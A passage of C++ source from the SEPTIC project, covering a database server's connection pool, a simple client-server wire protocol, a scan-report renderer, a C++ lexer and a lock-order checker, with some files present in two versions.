  Server& operator=(const Server&) = delete;

  /// Start the accept loop and the worker pool in background threads.
  void start();
  /// Stop accepting, close the listener, drain the queue, join all
  /// pooled and overflow threads.
  void stop();

  uint16_t port() const { return port_; }
  const ServerOptions& options() const { return options_; }

  uint64_t connections_served() const { return connections_; }
  /// Connections turned away by the max_connections cap.
  uint64_t connections_rejected() const { return rejected_; }
  /// Connections currently being served or queued for a worker.
  size_t active_connections() const { return active_; }
  /// accept() failures survived with backoff (EMFILE/ENFILE pressure).
  uint64_t accept_failures() const { return accept_failures_; }
  /// Transient overflow threads spawned because the pool was saturated.
  uint64_t overflow_workers_spawned() const { return overflow_spawned_; }

 private:
  // One live connection's fd, owned by the registry (conns_), never by the
  // serving thread. The serving thread is the only closer of its fd, and
  // it closes while holding conns_mu_ with `closed` set in the same
  // critical section — so stop(), which shutdown()s still-open fds under
  // the same lock, can never touch an fd number the OS has recycled.
  struct Conn {
    int fd = -1;
    bool closed = false;  // guarded by conns_mu_
  };

  // A transient worker past the pool: thread-per-connection burst relief.
  // `done` marks it finished so the accept loop can reap its thread while
  // the server keeps running.
  struct OverflowWorker {
    std::thread thread;
    std::atomic<bool> done{false};
  };

  void accept_loop();
  /// Pooled worker body: pop fds until stop.
  void pool_worker();
  /// Overflow worker body: drain whatever is queued right now, then exit.
  void overflow_worker(OverflowWorker* self);
  void serve_connection(int fd);
  /// Pop one pending fd; blocks when `wait`. Returns -1 when stopping /
  /// nothing queued.
  int pop_pending(bool wait);
  void reap_overflow_locked() SEPTIC_REQUIRES(overflow_mu_);

  engine::Database& db_;
  ServerOptions options_;
  int listen_fd_ = -1;
  uint16_t port_ = 0;
  std::thread accept_thread_;

  // Accept queue: accepted fds waiting for a worker.
  std::mutex queue_mu_;
  std::condition_variable queue_cv_;
  std::deque<int> pending_ SEPTIC_GUARDED_BY(queue_mu_);
  // pooled workers blocked in pop_pending
  size_t idle_workers_ SEPTIC_GUARDED_BY(queue_mu_) = 0;

  std::vector<std::thread> pool_;
  std::mutex overflow_mu_;
  std::vector<std::unique_ptr<OverflowWorker>> overflow_
      SEPTIC_GUARDED_BY(overflow_mu_);

  std::mutex conns_mu_;
  std::vector<std::unique_ptr<Conn>> conns_ SEPTIC_GUARDED_BY(conns_mu_);

  std::atomic<bool> running_{false};
  std::atomic<uint64_t> connections_{0};
  std::atomic<uint64_t> rejected_{0};
  std::atomic<size_t> active_{0};
  std::atomic<uint64_t> accept_failures_{0};
  std::atomic<uint64_t> overflow_spawned_{0};
};

}  // namespace septic::net

// Wire protocol between DBMS clients and the server: length-prefixed frames
// carrying a one-byte opcode. Deliberately simple (this is not the MySQL
// protocol), but real enough to demonstrate the paper's "client diversity"
// and "no client configuration" features: any number of clients of any kind
// connect and are protected by SEPTIC inside the server, with zero
// client-side changes.
//
// Frame layout: [u32 length (LE)] [u8 opcode] [payload...]
//
//   QUERY    c->s  payload = SQL text
//   ROWS     s->c  payload = result table (text serialization)
//   OK       s->c  payload = "affected=<n> last_insert_id=<n>"
//   ERROR    s->c  payload = "<code-name>: <message>"
//   QUIT     c->s  close the session
//   PREPARE  c->s  payload = template SQL with '?' placeholders;
//                  reply OK carries "stmt=<id>"
//   EXEC     c->s  payload = "<id>" + (0x1F + Value::repr())* — execute a
//                  prepared statement with positionally bound parameters
#pragma once

#include <cstdint>
#include <optional>
#include <string>
#include <string_view>

namespace septic::net {

enum class Opcode : uint8_t {
  kQuery = 1,
  kRows = 2,
  kOk = 3,
  kError = 4,
  kQuit = 5,
  kPrepare = 6,
  kExec = 7,
};

struct Frame {
  Opcode op = Opcode::kQuery;
  std::string payload;
};

/// Serialize a frame to wire bytes.
std::string encode_frame(const Frame& frame);

/// Incremental decoder: feed bytes, pull complete frames.
class FrameDecoder {
 public:
  void feed(std::string_view bytes);

  /// Pop the next complete frame, if any. Throws std::runtime_error on a
  /// malformed frame (bad opcode, oversized length).
  std::optional<Frame> next();

  /// Frames larger than this are rejected (sanity bound).
  static constexpr uint32_t kMaxFrameSize = 16 * 1024 * 1024;

 private:
  std::string buffer_;
};

}  // namespace septic::net

// Wire protocol between DBMS clients and the server: length-prefixed frames
// carrying a one-byte opcode. Deliberately simple (this is not the MySQL
// protocol), but real enough to demonstrate the paper's "client diversity"
// and "no client configuration" features: any number of clients of any kind
// connect and are protected by SEPTIC inside the server, with zero
// client-side changes.
//
// Frame layout: [u32 length (LE)] [u8 opcode] [payload...]
//
//   QUERY    c->s  payload = SQL text
//   ROWS     s->c  payload = result table (text serialization)
//   OK       s->c  payload = "affected=<n> last_insert_id=<n>"
//   ERROR    s->c  payload = "<code-name>: <message>"
//   QUIT     c->s  close the session
//   PREPARE  c->s  payload = template SQL with '?' placeholders;
//                  reply OK carries "stmt=<id>"
//   EXEC     c->s  payload = "<id>" + (0x1F + Value::repr())* — execute a
//                  prepared statement with positionally bound parameters
//   STMT_CLOSE c->s payload = "<id>" — deallocate a prepared statement;
//                  reply OK carries "closed=<id>". Closing bounds the
//                  per-connection registry without waiting for eviction.
#pragma once

#include <cstdint>
#include <optional>
#include <stdexcept>
#include <string>
#include <string_view>

namespace septic::net {

enum class Opcode : uint8_t {
  kQuery = 1,
  kRows = 2,
  kOk = 3,
  kError = 4,
  kQuit = 5,
  kPrepare = 6,
  kExec = 7,
  kStmtClose = 8,
};

struct Frame {
  Opcode op = Opcode::kQuery;
  std::string payload;
};

/// Serialize a frame to wire bytes.
std::string encode_frame(const Frame& frame);

/// Thrown by FrameDecoder for frames whose declared length exceeds the
/// decoder's limit — distinguishable from garbage framing so the server can
/// answer with a polite ERROR before closing.
class FrameTooLarge : public std::runtime_error {
 public:
  explicit FrameTooLarge(uint32_t declared, uint32_t limit)
      : std::runtime_error("frame of " + std::to_string(declared) +
                           " bytes exceeds limit of " + std::to_string(limit)) {
  }
};

/// Incremental decoder: feed bytes, pull complete frames.
class FrameDecoder {
 public:
  void feed(std::string_view bytes);

  /// Pop the next complete frame, if any. Throws FrameTooLarge when the
  /// declared length exceeds max_frame_size(), std::runtime_error on other
  /// malformed framing (zero length, bad opcode).
  std::optional<Frame> next();

  /// Default sanity bound on a single frame.
  static constexpr uint32_t kMaxFrameSize = 16 * 1024 * 1024;

  /// Tighten (or relax) the per-frame size guard. The limit is checked
  /// against the *declared* length, before any payload is buffered, so an
  /// attacker cannot make the server allocate the oversized frame.
  void set_max_frame_size(uint32_t limit) { max_frame_size_ = limit; }
  uint32_t max_frame_size() const { return max_frame_size_; }

 private:
  /// Bytes not yet decoded start at buffer_[pos_]. Consuming a frame only
  /// advances pos_; the prefix is erased in one amortized move once it
  /// outgrows both the live remainder and a fixed floor. The old
  /// erase-per-frame scheme was quadratic in burst size for pipelined
  /// clients (every popped frame slid the whole remaining burst down).
  std::string buffer_;
  size_t pos_ = 0;
  uint32_t max_frame_size_ = kMaxFrameSize;
};

}  // namespace septic::net

#include "analysis/report.h"

namespace septic::analysis {

size_t ScanReport::errors() const {
  size_t n = 0;
  for (const AppEntry& a : apps) n += a.scan.count(Severity::kError);
  return n;
}

size_t ScanReport::warnings() const {
  size_t n = 0;
  for (const AppEntry& a : apps) n += a.scan.count(Severity::kWarning);
  return n;
}

std::string json_escape(std::string_view s) {
  std::string out;
  out.reserve(s.size());
  for (char c : s) {
    switch (c) {
      case '"': out += "\\\""; break;
      case '\\': out += "\\\\"; break;
      case '\n': out += "\\n"; break;
      case '\t': out += "\\t"; break;
      case '\r': out += "\\r"; break;
      default:
        if (static_cast<unsigned char>(c) < 0x20) {
          static const char* kHex = "0123456789abcdef";
          out += "\\u00";
          out += kHex[(c >> 4) & 0xf];
          out += kHex[c & 0xf];
        } else {
          out += c;  // UTF-8 passes through (the QM bottom glyph)
        }
    }
  }
  return out;
}

namespace {

std::string sanitizer_list(const std::vector<Sanitizer>& sans) {
  std::string out;
  for (Sanitizer s : sans) {
    if (!out.empty()) out += ", ";
    out += sanitizer_name(s);
  }
  return out;
}

void json_finding(std::string& j, const Finding& f, const char* indent) {
  j += indent;
  j += "{\"class\": \"";
  j += finding_class_name(f.klass);
  j += "\", \"severity\": \"";
  j += severity_name(f.severity);
  j += "\", \"route\": \"" + json_escape(f.route);
  j += "\", \"site\": \"" + json_escape(f.site);
  j += "\", \"source\": \"" + json_escape(f.source);
  j += "\", \"context\": \"";
  j += sink_context_name(f.context);
  j += "\", \"sanitizers\": [";
  for (size_t i = 0; i < f.sanitizers.size(); ++i) {
    if (i) j += ", ";
    j += '"';
    j += sanitizer_name(f.sanitizers[i]);
    j += '"';
  }
  j += "], \"line\": " + std::to_string(f.line);
  j += ", \"message\": \"" + json_escape(f.message) + "\"}";
}

}  // namespace

std::string render_text(const ScanReport& report) {
  std::string t;
  for (const ScanReport::AppEntry& a : report.apps) {
    t += "== " + a.scan.app + " (" + a.scan.file + ") ==\n";
    t += "  sinks: " + std::to_string(a.scan.sinks.size()) +
         " variant(s), models emitted: " + std::to_string(a.models.size()) +
         "\n";
    for (const SinkVariant& s : a.scan.sinks) {
      t += "  [sink] " + s.site + " line " + std::to_string(s.line);
      if (s.prepared) t += " (prepared)";
      if (!s.route.empty()) t += " route " + s.route;
      t += "\n         " + s.template_text() + "\n";
    }
    for (const Finding& f : a.scan.findings) {
      t += "  [";
      t += severity_name(f.severity);
      t += "] ";
      t += finding_class_name(f.klass);
      t += " at line " + std::to_string(f.line) + " (site " + f.site + ")\n";
      t += "          " + f.message + "\n";
      if (!f.sanitizers.empty()) {
        t += "          sanitizers applied: " + sanitizer_list(f.sanitizers) +
             "\n";
      }
    }
    for (const HandlerNote& n : a.scan.notes) {
      t += "  [note] line " + std::to_string(n.line) + ": " + n.message + "\n";
    }
  }
  t += "septic-scan: " + std::to_string(report.errors()) + " error(s), " +
       std::to_string(report.warnings()) + " warning(s)\n";
  return t;
}

std::string render_json(const ScanReport& report) {
  std::string j = "{\n  \"tool\": \"septic-scan\",\n  \"apps\": [";
  for (size_t ai = 0; ai < report.apps.size(); ++ai) {
    const ScanReport::AppEntry& a = report.apps[ai];
    j += ai ? ",\n    {" : "\n    {";
    j += "\n      \"app\": \"" + json_escape(a.scan.app) + "\",";
    j += "\n      \"file\": \"" + json_escape(a.scan.file) + "\",";
    j += "\n      \"sinks\": [";
    for (size_t i = 0; i < a.scan.sinks.size(); ++i) {
      const SinkVariant& s = a.scan.sinks[i];
      j += i ? ",\n        {" : "\n        {";
      j += "\"site\": \"" + json_escape(s.site) + "\", ";
      j += "\"route\": \"" + json_escape(s.route) + "\", ";
      j += "\"line\": " + std::to_string(s.line) + ", ";
      j += std::string("\"prepared\": ") + (s.prepared ? "true" : "false") +
           ", ";
      j += "\"template\": \"" + json_escape(s.template_text()) + "\", ";
      j += "\"benign\": \"" + json_escape(s.benign_text()) + "\"}";
    }
    j += a.scan.sinks.empty() ? "]," : "\n      ],";
    j += "\n      \"models\": [";
    for (size_t i = 0; i < a.models.size(); ++i) {
      const EmittedModel& m = a.models[i];
      j += i ? ",\n        {" : "\n        {";
      j += "\"site\": \"" + json_escape(m.site) + "\", ";
      j += "\"id\": \"" + json_escape(m.id) + "\", ";
      j += "\"model\": \"" + json_escape(m.model) + "\"}";
    }
    j += a.models.empty() ? "]," : "\n      ],";
    j += "\n      \"findings\": [";
    for (size_t i = 0; i < a.scan.findings.size(); ++i) {
      j += i ? ",\n" : "\n";
      json_finding(j, a.scan.findings[i], "        ");
    }
    j += a.scan.findings.empty() ? "]," : "\n      ],";
    j += "\n      \"notes\": [";
    for (size_t i = 0; i < a.scan.notes.size(); ++i) {
      const HandlerNote& n = a.scan.notes[i];
      j += i ? ",\n        {" : "\n        {";
      j += "\"line\": " + std::to_string(n.line) + ", ";
      j += "\"message\": \"" + json_escape(n.message) + "\"}";
    }
    j += a.scan.notes.empty() ? "]" : "\n      ]";
    j += "\n    }";
  }
  j += report.apps.empty() ? "],\n" : "\n  ],\n";
  j += "  \"summary\": {\"errors\": " + std::to_string(report.errors()) +
       ", \"warnings\": " + std::to_string(report.warnings()) + "}\n}\n";
  return j;
}

}  // namespace septic::analysis

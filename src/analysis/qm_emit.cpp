#include "analysis/qm_emit.h"

#include <algorithm>
#include <exception>

#include "common/unicode.h"
#include "septic/id_generator.h"
#include "septic/query_model.h"
#include "sqlcore/item.h"
#include "sqlcore/parser.h"

namespace septic::analysis {

namespace {

bool finding_order(const Finding& a, const Finding& b) {
  return std::tie(a.line, a.site, a.source, a.klass, a.context) <
         std::tie(b.line, b.site, b.source, b.klass, b.context);
}

}  // namespace

std::vector<EmittedModel> emit_models(AppScan& scan, core::QmStore& store,
                                      const EmitOptions& opts) {
  std::vector<EmittedModel> out;
  for (const SinkVariant& v : scan.sinks) {
    std::string benign = v.benign_text();
    std::string tagged;
    if (opts.emit_external_ids) {
      // Byte-for-byte the AppContext::sql / sql_prepared tagging.
      tagged = "/* ID:";
      tagged += scan.app;
      tagged += ':';
      tagged += v.site;
      tagged += " */ ";
      tagged += benign;
    } else {
      tagged = benign;
    }
    try {
      // The engine facade's statement pipeline, minus execution.
      std::string converted = common::server_charset_convert(tagged);
      sql::ParsedQuery parsed = sql::parse(converted);
      core::QueryId id = core::IdGenerator::generate(parsed);
      sql::ItemStack qs = sql::build_item_stack(parsed.statement);
      core::QueryModel qm = core::make_query_model(qs);

      EmittedModel em;
      em.site = v.site;
      em.id = id.composed();
      em.benign = std::move(benign);
      em.model = qm.to_string();
      em.fresh = store.add(em.id, qm);
      out.push_back(std::move(em));
    } catch (const std::exception& ex) {
      Finding fd;
      fd.klass = FindingClass::kTemplateParseError;
      fd.severity = Severity::kError;
      fd.route = v.route;
      fd.site = v.site;
      fd.source = "<template>";
      fd.context = SinkContext::kRaw;
      fd.line = v.line;
      fd.message = "derived benign statement does not parse (" +
                   std::string(ex.what()) + "): " + benign;
      if (std::find(scan.findings.begin(), scan.findings.end(), fd) ==
          scan.findings.end()) {
        scan.findings.push_back(std::move(fd));
      }
    }
  }
  std::sort(scan.findings.begin(), scan.findings.end(), finding_order);
  return out;
}

}  // namespace septic::analysis

#include "analysis/scanner.h"

#include <fstream>
#include <sstream>
#include <stdexcept>

namespace septic::analysis {

namespace {

std::string basename_of(const std::string& path) {
  size_t slash = path.find_last_of("/\\");
  return slash == std::string::npos ? path : path.substr(slash + 1);
}

}  // namespace

std::string file_stem(const std::string& path) {
  std::string base = basename_of(path);
  size_t dot = base.rfind('.');
  return dot == std::string::npos ? base : base.substr(0, dot);
}

ScanReport::AppEntry scan_source(std::string_view source,
                                 const std::string& app_name,
                                 const std::string& file_label,
                                 core::QmStore& store,
                                 const ScannerConfig& config) {
  ScanOptions opts;
  opts.rules = config.rules;
  opts.app_name = app_name;
  opts.file_label = file_label;
  opts.max_worlds = config.max_worlds;

  ScanReport::AppEntry entry;
  entry.scan = analyze_source(source, opts);
  EmitOptions emit;
  emit.emit_external_ids = config.emit_external_ids;
  entry.models = emit_models(entry.scan, store, emit);
  return entry;
}

ScanReport::AppEntry scan_file(const std::string& path, std::string app_name,
                               core::QmStore& store,
                               const ScannerConfig& config) {
  std::ifstream in(path, std::ios::binary);
  if (!in) throw std::runtime_error("cannot read " + path);
  std::ostringstream buf;
  buf << in.rdbuf();
  if (app_name.empty()) app_name = file_stem(path);
  return scan_source(buf.str(), app_name, basename_of(path), store, config);
}

}  // namespace septic::analysis

#include "analysis/source_lexer.h"

namespace septic::analysis {

namespace {

bool ident_start(char c) {
  return (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || c == '_';
}
bool ident_char(char c) { return ident_start(c) || (c >= '0' && c <= '9'); }
bool digit(char c) { return c >= '0' && c <= '9'; }

// Multi-character operators the statement grammar cares about, longest
// first so "+=" wins over "+".
constexpr const char* kOps[] = {
    "::", "->", "+=", "==", "!=", "<=", ">=", "&&", "||",
};

}  // namespace

std::vector<Tok> lex_cpp(std::string_view source) {
  std::vector<Tok> out;
  size_t i = 0;
  int line = 1;
  const size_t n = source.size();

  auto push = [&](TokKind k, std::string text) {
    out.push_back({k, std::move(text), line});
  };

  while (i < n) {
    char c = source[i];
    if (c == '\n') {
      ++line;
      ++i;
      continue;
    }
    if (c == ' ' || c == '\t' || c == '\r') {
      ++i;
      continue;
    }
    // Comments.
    if (c == '/' && i + 1 < n && source[i + 1] == '/') {
      while (i < n && source[i] != '\n') ++i;
      continue;
    }
    if (c == '/' && i + 1 < n && source[i + 1] == '*') {
      i += 2;
      while (i + 1 < n && !(source[i] == '*' && source[i + 1] == '/')) {
        if (source[i] == '\n') ++line;
        ++i;
      }
      i = (i + 1 < n) ? i + 2 : n;
      continue;
    }
    // Raw string literal R"delim(...)delim" — kept undecoded (the WAF rule
    // tables use these for regex bodies; their contents are opaque here).
    if (c == 'R' && i + 1 < n && source[i + 1] == '"' &&
        (i == 0 || !ident_char(source[i - 1]))) {
      size_t j = i + 2;
      while (j < n && source[j] != '(') ++j;
      std::string close = ")" + std::string(source.substr(i + 2, j - i - 2)) +
                          "\"";
      size_t end = source.find(close, j);
      size_t stop = end == std::string_view::npos ? n : end;
      std::string text(source.substr(j + 1 <= stop ? j + 1 : stop,
                                     stop - std::min(j + 1, stop)));
      push(TokKind::kString, std::move(text));
      for (size_t k = i; k < std::min(stop + close.size(), n); ++k) {
        if (source[k] == '\n') ++line;
      }
      i = end == std::string_view::npos ? n : end + close.size();
      continue;
    }
    // String literal (decoded).
    if (c == '"') {
      std::string text;
      ++i;
      while (i < n && source[i] != '"') {
        if (source[i] == '\\' && i + 1 < n) {
          char e = source[i + 1];
          switch (e) {
            case 'n': text += '\n'; break;
            case 't': text += '\t'; break;
            case 'r': text += '\r'; break;
            case '0': text += '\0'; break;
            case '\\': text += '\\'; break;
            case '"': text += '"'; break;
            case '\'': text += '\''; break;
            default: text += e; break;
          }
          i += 2;
          continue;
        }
        if (source[i] == '\n') ++line;  // unterminated; keep going
        text += source[i++];
      }
      if (i < n) ++i;  // closing quote
      push(TokKind::kString, std::move(text));
      continue;
    }
    // Char literal — lexed as a one-char string (only appears in app code
    // as separators like ':').
    if (c == '\'') {
      std::string text;
      ++i;
      while (i < n && source[i] != '\'') {
        if (source[i] == '\\' && i + 1 < n) {
          text += source[i + 1];
          i += 2;
          continue;
        }
        text += source[i++];
      }
      if (i < n) ++i;
      push(TokKind::kString, std::move(text));
      continue;
    }
    if (digit(c)) {
      size_t start = i;
      while (i < n && (digit(source[i]) || source[i] == '.' ||
                       source[i] == 'x' || source[i] == 'X' ||
                       (source[i] >= 'a' && source[i] <= 'f') ||
                       (source[i] >= 'A' && source[i] <= 'F'))) {
        ++i;
      }
      // Integer suffixes stay part of the literal: `1u << 30` must not
      // produce an ident token the declaration parsers could mistake for a
      // template name.
      while (i < n && (source[i] == 'u' || source[i] == 'U' ||
                       source[i] == 'l' || source[i] == 'L')) {
        ++i;
      }
      push(TokKind::kNumber, std::string(source.substr(start, i - start)));
      continue;
    }
    if (ident_start(c)) {
      size_t start = i;
      while (i < n && ident_char(source[i])) ++i;
      push(TokKind::kIdent, std::string(source.substr(start, i - start)));
      continue;
    }
    // Multi-char operators.
    bool matched = false;
    for (const char* op : kOps) {
      std::string_view sv(op);
      if (source.substr(i, sv.size()) == sv) {
        push(TokKind::kPunct, std::string(sv));
        i += sv.size();
        matched = true;
        break;
      }
    }
    if (matched) continue;
    push(TokKind::kPunct, std::string(1, c));
    ++i;
  }
  out.push_back({TokKind::kEnd, "", line});
  return out;
}

std::string strip_preprocessor(std::string_view source) {
  std::string out(source);
  size_t i = 0;
  const size_t n = out.size();
  while (i < n) {
    size_t start = i;
    while (i < n && (out[i] == ' ' || out[i] == '\t')) ++i;
    bool directive = i < n && out[i] == '#';
    size_t eol = out.find('\n', i);
    if (eol == std::string::npos) eol = n;
    if (directive) {
      // Blank the directive and every backslash-continued line after it,
      // keeping the newlines so later tokens stay on their lines.
      for (;;) {
        bool continued = eol > start && out[eol - 1] == '\\';
        for (size_t k = start; k < eol; ++k) out[k] = ' ';
        if (!continued || eol >= n) break;
        start = eol + 1;
        eol = out.find('\n', start);
        if (eol == std::string::npos) eol = n;
      }
    }
    i = eol < n ? eol + 1 : n;
  }
  return out;
}

}  // namespace septic::analysis

#include "analysis/source_lexer.h"

namespace septic::analysis {

namespace {

bool ident_start(char c) {
  return (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || c == '_';
}
bool ident_char(char c) { return ident_start(c) || (c >= '0' && c <= '9'); }
bool digit(char c) { return c >= '0' && c <= '9'; }

// Multi-character operators the statement grammar cares about, longest
// first so "+=" wins over "+".
constexpr const char* kOps[] = {
    "::", "->", "+=", "==", "!=", "<=", ">=", "&&", "||",
};

}  // namespace

std::vector<Tok> lex_cpp(std::string_view source) {
  std::vector<Tok> out;
  size_t i = 0;
  int line = 1;
  const size_t n = source.size();

  auto push = [&](TokKind k, std::string text) {
    out.push_back({k, std::move(text), line});
  };

  while (i < n) {
    char c = source[i];
    if (c == '\n') {
      ++line;
      ++i;
      continue;
    }
    if (c == ' ' || c == '\t' || c == '\r') {
      ++i;
      continue;
    }
    // Comments.
    if (c == '/' && i + 1 < n && source[i + 1] == '/') {
      while (i < n && source[i] != '\n') ++i;
      continue;
    }
    if (c == '/' && i + 1 < n && source[i + 1] == '*') {
      i += 2;
      while (i + 1 < n && !(source[i] == '*' && source[i + 1] == '/')) {
        if (source[i] == '\n') ++line;
        ++i;
      }
      i = (i + 1 < n) ? i + 2 : n;
      continue;
    }
    // String literal (decoded).
    if (c == '"') {
      std::string text;
      ++i;
      while (i < n && source[i] != '"') {
        if (source[i] == '\\' && i + 1 < n) {
          char e = source[i + 1];
          switch (e) {
            case 'n': text += '\n'; break;
            case 't': text += '\t'; break;
            case 'r': text += '\r'; break;
            case '0': text += '\0'; break;
            case '\\': text += '\\'; break;
            case '"': text += '"'; break;
            case '\'': text += '\''; break;
            default: text += e; break;
          }
          i += 2;
          continue;
        }
        if (source[i] == '\n') ++line;  // unterminated; keep going
        text += source[i++];
      }
      if (i < n) ++i;  // closing quote
      push(TokKind::kString, std::move(text));
      continue;
    }
    // Char literal — lexed as a one-char string (only appears in app code
    // as separators like ':').
    if (c == '\'') {
      std::string text;
      ++i;
      while (i < n && source[i] != '\'') {
        if (source[i] == '\\' && i + 1 < n) {
          text += source[i + 1];
          i += 2;
          continue;
        }
        text += source[i++];
      }
      if (i < n) ++i;
      push(TokKind::kString, std::move(text));
      continue;
    }
    if (digit(c)) {
      size_t start = i;
      while (i < n && (digit(source[i]) || source[i] == '.' ||
                       source[i] == 'x' || source[i] == 'X' ||
                       (source[i] >= 'a' && source[i] <= 'f') ||
                       (source[i] >= 'A' && source[i] <= 'F'))) {
        ++i;
      }
      push(TokKind::kNumber, std::string(source.substr(start, i - start)));
      continue;
    }
    if (ident_start(c)) {
      size_t start = i;
      while (i < n && ident_char(source[i])) ++i;
      push(TokKind::kIdent, std::string(source.substr(start, i - start)));
      continue;
    }
    // Multi-char operators.
    bool matched = false;
    for (const char* op : kOps) {
      std::string_view sv(op);
      if (source.substr(i, sv.size()) == sv) {
        push(TokKind::kPunct, std::string(sv));
        i += sv.size();
        matched = true;
        break;
      }
    }
    if (matched) continue;
    push(TokKind::kPunct, std::string(1, c));
    ++i;
  }
  out.push_back({TokKind::kEnd, "", line});
  return out;
}

}  // namespace septic::analysis

// Report rendering for septic-scan: a deterministic human-readable text
// form and a stable JSON form (fixed key order, sorted content, trailing
// newline) suitable for golden-file testing and CI artifact diffing.
#pragma once

#include <string>
#include <vector>

#include "analysis/model.h"
#include "analysis/qm_emit.h"

namespace septic::analysis {

struct ScanReport {
  struct AppEntry {
    AppScan scan;
    std::vector<EmittedModel> models;
  };
  std::vector<AppEntry> apps;

  size_t errors() const;
  size_t warnings() const;
};

/// Human-readable report (what the CLI prints by default).
std::string render_text(const ScanReport& report);

/// Machine-readable report. Deterministic: same scan input -> identical
/// bytes, so golden files and CI diffs are stable.
std::string render_json(const ScanReport& report);

/// JSON string escaping (exposed for tests).
std::string json_escape(std::string_view s);

}  // namespace septic::analysis

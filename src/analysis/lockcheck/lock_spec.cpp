#include "analysis/lockcheck/lock_spec.h"

#include <algorithm>
#include <sstream>

namespace septic::analysis::lockcheck {

namespace {

std::vector<std::string> split_ws(const std::string& line) {
  std::vector<std::string> out;
  std::istringstream in(line);
  std::string w;
  while (in >> w) out.push_back(w);
  return out;
}

}  // namespace

bool LockSpec::parse(const std::string& text, std::string* error) {
  std::istringstream in(text);
  std::string line;
  int lineno = 0;
  auto fail = [&](const std::string& msg) {
    if (error != nullptr) {
      *error = "locks.spec:" + std::to_string(lineno) + ": " + msg;
    }
    return false;
  };
  while (std::getline(in, line)) {
    ++lineno;
    size_t hash = line.find('#');
    if (hash != std::string::npos) line.resize(hash);
    std::vector<std::string> words = split_ws(line);
    if (words.empty()) continue;
    const std::string& kw = words[0];
    if (kw == "level") {
      if (words.size() != 2) return fail("level needs exactly one lock");
      levels_.push_back(words[1]);
    } else if (kw == "leaf") {
      if (words.size() != 2) return fail("leaf needs exactly one lock");
      leaves_.insert(words[1]);
    } else if (kw == "order") {
      if (words.size() != 3) return fail("order needs <held> <acquired>");
      extra_order_.insert({words[1], words[2]});
    } else if (kw == "blocking") {
      if (words.size() != 2) return fail("blocking needs one function");
      blocking_.insert(words[1]);
    } else if (kw == "noblock") {
      if (words.size() < 3) return fail("noblock needs <fn> <lock>...");
      NoBlockRule rule;
      rule.fn = words[1];
      rule.locks.assign(words.begin() + 2, words.end());
      noblock_.push_back(std::move(rule));
    } else if (kw == "crashcover") {
      if (words.size() != 2) return fail("crashcover needs one function");
      crashcover_.push_back(words[1]);
    } else {
      return fail("unknown directive '" + kw + "'");
    }
  }
  return true;
}

bool LockSpec::knows(const LockId& lock) const {
  return rank(lock) != npos || leaves_.count(lock) != 0;
}

bool LockSpec::is_leaf(const LockId& lock) const {
  return leaves_.count(lock) != 0;
}

size_t LockSpec::rank(const LockId& lock) const {
  auto it = std::find(levels_.begin(), levels_.end(), lock);
  return it == levels_.end() ? npos
                             : static_cast<size_t>(it - levels_.begin());
}

bool LockSpec::order_ok(const LockId& held, const LockId& acquired) const {
  if (held == acquired) return false;  // self-deadlock / same-rank instance
  if (extra_order_.count({held, acquired}) != 0) return true;
  if (is_leaf(held)) return false;  // leaves are innermost: acquire nothing
  size_t rh = rank(held);
  if (is_leaf(acquired)) return rh != npos;
  size_t ra = rank(acquired);
  return rh != npos && ra != npos && rh < ra;
}

bool LockSpec::is_blocking(const std::string& fn) const {
  return blocking_.count(fn) != 0;
}

}  // namespace septic::analysis::lockcheck

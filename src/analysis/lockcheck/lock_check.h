// The interprocedural checker: propagate held-lock sets over the call
// graph and validate every acquisition / blocking call / atomic RMW
// against locks.spec. Produces findings in the septic-scan shape
// (class/severity/file/line/message) with a deterministic JSON form for
// golden tests and the CI gate.
//
// Finding taxonomy (see DESIGN.md for the bug class each maps to):
//   lock-order-inversion     error    (held, acquired) pair against the spec
//   blocking-call-under-lock error    noblock rule violated via any chain
//   atomic-plain-rmw         error    lost-update RMW on a std::atomic
//   unknown-lock             warning  mutex not declared in locks.spec
//   missing-failpoint-guard  warning  crashcover function without crashpoint
#pragma once

#include <string>
#include <vector>

#include "analysis/lockcheck/lock_model.h"
#include "analysis/lockcheck/lock_spec.h"

namespace septic::analysis::lockcheck {

struct LockFinding {
  std::string klass;     // taxonomy entry above
  std::string severity;  // "error" | "warning"
  std::string file;
  int line = 0;
  std::string function;  // qualified enclosing function
  std::string message;
};

struct LockReport {
  std::string spec_path;
  size_t files_scanned = 0;
  size_t functions = 0;
  std::vector<LockFinding> findings;  // sorted (file, line, class, message)

  size_t errors() const;
  size_t warnings() const;
};

/// Run every check. `spec_path` is only echoed into the report.
LockReport check_model(const CodeModel& model, const LockSpec& spec,
                       const std::string& spec_path);

/// Human-readable report (CLI default).
std::string render_lock_text(const LockReport& report);

/// Deterministic JSON: same model + spec -> identical bytes.
std::string render_lock_json(const LockReport& report);

}  // namespace septic::analysis::lockcheck

#include "analysis/lockcheck/lock_extract.h"

#include <algorithm>
#include <set>

namespace septic::analysis::lockcheck {

namespace {

const std::set<std::string>& keywords() {
  static const std::set<std::string> kw = {
      "if",       "while",    "for",        "switch",   "return",
      "sizeof",   "catch",    "throw",      "new",      "delete",
      "else",     "do",       "case",       "default",  "break",
      "continue", "goto",     "using",      "namespace","template",
      "typename", "struct",   "class",      "enum",     "union",
      "operator", "true",     "false",      "nullptr",  "this",
      "static_cast",          "dynamic_cast",
      "reinterpret_cast",     "const_cast", "static_assert",
      "alignof",  "decltype", "noexcept",   "co_await", "co_return",
  };
  return kw;
}

bool is_guard_class(const std::string& s) {
  return s == "lock_guard" || s == "unique_lock" || s == "shared_lock" ||
         s == "scoped_lock";
}

bool is_mutex_type_ident(const std::string& s) {
  return s == "mutex" || s == "shared_mutex" || s == "recursive_mutex" ||
         s == "timed_mutex" || s == "shared_timed_mutex";
}

bool is_failpoint_ident(const std::string& s) {
  return s == "crashpoint" || s == "SEPTIC_FAILPOINT" ||
         s == "SEPTIC_FAILPOINT_HOOK";
}

const Tok& at(const std::vector<Tok>& t, size_t i) {
  static const Tok kEnd{TokKind::kEnd, "", 0};
  return i < t.size() ? t[i] : kEnd;
}

/// t[i] is `open`; returns the index just past the matching `close`.
size_t skip_balanced(const std::vector<Tok>& t, size_t i,
                     const char* open, const char* close) {
  int depth = 0;
  for (; i < t.size(); ++i) {
    if (t[i].is_punct(open)) {
      ++depth;
    } else if (t[i].is_punct(close)) {
      if (--depth == 0) return i + 1;
    }
  }
  return t.size();
}

/// t[i] is `<` that may open a template argument list; returns the index
/// past the matching `>`. Template argument lists never contain `;` `{`
/// `}` — hitting one means the `<` was a comparison after all, and the
/// caller must not skip anything: return i + 1.
